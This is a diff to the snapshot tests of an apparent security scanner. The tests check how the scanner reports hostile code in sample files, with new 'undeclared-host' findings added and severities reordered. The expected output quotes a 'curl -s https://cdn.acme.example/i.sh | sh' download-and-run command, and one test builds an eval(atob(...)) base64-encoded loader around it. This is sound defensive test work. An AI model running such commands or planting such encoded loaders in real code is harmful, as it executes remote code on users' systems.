@@ -29,6 +29,7 @@ fn what_an_evaluated_text_does_is_told_where_it_is_evaluated() {
     let report = report("py", code);
     insta::assert_snapshot!(told(&report), @r##"
 3 critical shell-command: `os.system` downloads and runs something: `curl -s https://cdn.acme.example/i.sh | sh`, in what `exec` runs
+3 medium undeclared-host: contacts `cdn.acme.example`, which no shipped document names, in what `exec` runs
 "##);
     let finding = &report.findings[0];
     assert_eq!(finding.location.path.as_str(), "notes.py");
@@ -44,8 +45,9 @@ fn encoded_code_is_decoded_and_judged_and_its_layers_are_told_once() {
     let code = format!("// nothing\neval(atob('{}'));\n", base64(&inner));
     let report = report("js", &code);
     insta::assert_snapshot!(told(&report), @r##"
+2 critical dynamic-code: `eval` runs `eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgL`, which the file only holds encoded or in pieces, as code
 2 critical shell-command: `child_process.exec` downloads and runs something: `curl -s https://cdn.acme.example/i.sh | sh`, in what `eval` runs
-2 high dynamic-code: `eval` runs `eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgL`, which the file only holds encoded or in pieces, as code
+2 high undeclared-host: contacts a host whose name the code only puts together at run time: `cdn.acme.example`, which no shipped document names, in what `eval` runs
 "##);
     assert!(report.observed.hosts.iter().all(|host| host.location.path.as_str() == "index.js"));
     assert!(report.capabilities.iter().any(|capability| capability.detail == "curl"), "what a text does is a capability");
